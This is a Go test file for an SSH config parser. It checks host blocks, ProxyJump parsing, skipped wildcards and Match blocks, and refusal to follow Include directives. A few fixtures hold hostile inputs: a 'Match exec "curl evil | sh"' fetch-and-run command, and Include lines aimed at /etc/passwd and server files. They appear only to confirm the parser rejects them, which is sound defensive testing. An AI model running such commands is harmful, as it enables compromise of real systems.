package sshconfig

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	tests := []struct {
		name     string
		text     string
		hosts    []Host
		warnings []string // substrings, in order
	}{
		{
			name:  "minimal",
			text:  "Host web\n",
			hosts: []Host{{Alias: "web", HostName: "web", Port: 22}},
		},
		{
			name: "full block",
			text: "Host web\n  HostName 10.0.0.5\n  User deploy\n  Port 2222\n  IdentityFile ~/.ssh/id_ed25519\n  IdentityFile ~/.ssh/id_rsa\n",
			hosts: []Host{{Alias: "web", HostName: "10.0.0.5", User: "deploy", Port: 2222,
				IdentityFiles: []string{"~/.ssh/id_ed25519", "~/.ssh/id_rsa"}}},
		},
		{
			name:  "equals, case and tabs",
			text:  "HOST db\n\thostname=db.internal\n\tUSER = pg\n\tport\t= 5433\n",
			hosts: []Host{{Alias: "db", HostName: "db.internal", User: "pg", Port: 5433}},
		},
		{
			name:     "first value wins, Host * defaults apply",
			text:     "User everyone\nHost a\n  HostName a.example\nHost *\n  User late\n  Port 2200\nHost a\n  Port 9999\n",
			hosts:    []Host{{Alias: "a", HostName: "a.example", User: "everyone", Port: 2200}},
			warnings: []string{"Host *: pattern * skipped"},
		},
		{
			name: "several aliases on one line",
			text: "Host web1 web2\n  User www\n",
			hosts: []Host{
				{Alias: "web1", HostName: "web1", User: "www", Port: 22},
				{Alias: "web2", HostName: "web2", User: "www", Port: 22},
			},
		},
		{
			name:  "wildcards and negations skipped with a warning",
			text:  "Host *.prod !bastion\n  User ops\nHost app?\n  Port 1\nHost app1 *.x\n",
			hosts: []Host{{Alias: "app1", HostName: "app1", Port: 1}}, // app? matches app1; *.prod does not
			warnings: []string{"Host *.prod !bastion: pattern *.prod !bastion skipped",
				"Host app?: pattern app? skipped", "Host app1 *.x: pattern *.x skipped"},
		},
		{
			name: "proxy jump chain",
			text: "Host inner\n  HostName 10.1.1.1\n  ProxyJump alice@bastion:2222,ssh://bob@[fe80::1]:22,gate,[2001:db8::2],2001:db8::3\n",
			hosts: []Host{{Alias: "inner", HostName: "10.1.1.1", Port: 22, ProxyJump: []Jump{
				{User: "alice", Host: "bastion", Port: 2222},
				{User: "bob", Host: "fe80::1", Port: 22},
				{Host: "gate"},
				{Host: "2001:db8::2"},
				{Host: "2001:db8::3"},
			}}},
		},
		{
			name:     "proxy jump none",
			text:     "Host a\n  ProxyJump none\nHost *\n  ProxyJump bastion\n",
			hosts:    []Host{{Alias: "a", HostName: "a", Port: 22}},
			warnings: []string{"Host *"},
		},
		{
			name:     "match blocks skipped",
			text:     "Host a\n  User one\nMatch exec \"curl evil | sh\"\n  User two\n  Port 1\nMatch user root host a\n  Port 2\nHost b\n",
			hosts:    []Host{{Alias: "a", HostName: "a", User: "one", Port: 22}, {Alias: "b", HostName: "b", Port: 22}},
			warnings: []string{"line 3: Match exec \"curl evil | sh\" block skipped", "line 6: Match user root host a block skipped"},
		},
		{
			name:     "include not followed",
			text:     "Include ~/.ssh/config.d/*\nHost a\n  Include=/etc/passwd\n",
			hosts:    []Host{{Alias: "a", HostName: "a", Port: 22}},
			warnings: []string{"line 1: Include ~/.ssh/config.d/* not followed", "line 3: Include /etc/passwd not followed"},
		},
		{
			name:     "proxy command ignored",
			text:     "Host a\n  ProxyCommand ssh -W %h:%p gw\n",
			hosts:    []Host{{Alias: "a", HostName: "a", Port: 22}},
			warnings: []string{"Host a: ProxyCommand is not supported"},
		},
		{
			name:  "hostname tokens",
			text:  "Host web\n  HostName %h.example.com\n",
			hosts: []Host{{Alias: "web", HostName: "web.example.com", Port: 22}},
		},
		{
			name:     "bad values skip the host",
			text:     "Host a\n  Port 70000\nHost b\n  ProxyJump x:y\nHost c\n  HostName %u.example\nHost d\n",
			hosts:    []Host{{Alias: "d", HostName: "d", Port: 22}},
			warnings: []string{"Host a skipped: invalid port \"70000\"", "Host b skipped: ProxyJump", "Host c skipped"},
		},
		{
			name:  "comments, CRLF and quotes",
			text:  "# my servers\r\nHost web # front\r\n  HostName \"10.0.0.1\"\r\n  User deploy\r\n",
			hosts: []Host{{Alias: "web", HostName: "10.0.0.1", User: "deploy", Port: 22}},
		},
		{
			name:  "duplicate alias: first block defines it",
			text:  "Host a\n  User x\nHost a\n  User y\n",
			hosts: []Host{{Alias: "a", HostName: "a", User: "x", Port: 22}},
		},
		{name: "empty", text: ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			hosts, warnings, err := Parse(tc.text)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(hosts, tc.hosts) {
				t.Errorf("hosts:\n got %+v\nwant %+v", hosts, tc.hosts)
			}
			if len(warnings) != len(tc.warnings) {
				t.Fatalf("warnings = %q, want %d matching %q", warnings, len(tc.warnings), tc.warnings)
			}
			for i, w := range tc.warnings {
				if !strings.Contains(warnings[i], w) {
					t.Errorf("warning %d = %q, want it to contain %q", i, warnings[i], w)
				}
			}
		})
	}
}

// TestIncludeDoesNotReadServerFiles: a pasted config with Include must not
// make the server read its own files (the parsing library follows Include
// eagerly), or an attacker could probe or import the server's ssh configs.
func TestIncludeDoesNotReadServerFiles(t *testing.T) {
	dir := t.TempDir()
	secret := filepath.Join(dir, "server_config")
	if err := os.WriteFile(secret, []byte("Host stolen\n  HostName 10.9.9.9\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"Include " + secret, "  include\t" + secret, "INCLUDE=" + secret, "Include = " + secret, "Host x\rInclude " + secret, "iNcLuDe\t=\t" + secret} {
		hosts, warnings, err := Parse(line + "\nHost a\n")
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		for _, h := range hosts {
			if h.Alias == "stolen" {
				t.Fatalf("%q: server file was read", line)
			}
		}
		if len(warnings) < 1 || !strings.Contains(warnings[len(warnings)-1], "not followed") {
			t.Errorf("%q: warnings = %q", line, warnings)
		}
	}
}

func TestParseErrors(t *testing.T) {
	if _, _, err := Parse(strings.Repeat("#", MaxInput+1)); !errors.Is(err, ErrTooLarge) {
		t.Errorf("large: %v", err)
	}
	if _, _, err := Parse("Host\n  User x\nHost a\n"); err != nil && !errors.Is(err, ErrSyntax) {
		t.Errorf("unclassified error: %v", err)
	}
}

func TestJumpString(t *testing.T) {
	for in, want := range map[string]string{
		"a": "a", "u@a": "u@a", "u@a:2": "u@a:2", "[::1]:22": "[::1]:22", "ssh://u@h": "u@h",
	} {
		j, err := parseJump(in)
		if err != nil || j.String() != want {
			t.Errorf("parseJump(%q) = %v (%v), String %q want %q", in, j, err, j.String(), want)
		}
	}
	for _, bad := range []string{"", "@h", "h:0", "h:x", "[::1", "a b", "u@"} {
		if j, err := parseJump(bad); err == nil {
			t.Errorf("parseJump(%q) accepted: %+v", bad, j)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("Host a b *.c\n  HostName %h.x\n  Port 22\n  ProxyJump u@j:2,k\nMatch host a\n  User u\nInclude x\n")
	f.Add("User x\r\nHost=y\r\n\tPort=1 # c\r\n")
	f.Add("Host a\rInclude b\r\n  match all")
	f.Fuzz(func(t *testing.T, text string) {
		hosts, _, err := Parse(text)
		if err != nil {
			if errors.Is(err, errIncludeSlipped) || !errors.Is(err, ErrSyntax) && !errors.Is(err, ErrTooLarge) {
				t.Fatalf("unclassified error %v", err)
			}
			return
		}
		for _, h := range hosts {
			if h.Alias == "" || h.HostName == "" || h.Port < 1 || h.Port > 65535 || strings.ContainsAny(h.Alias, "*?! \t") {
				t.Fatalf("bad host %+v", h)
			}
		}
	})
}
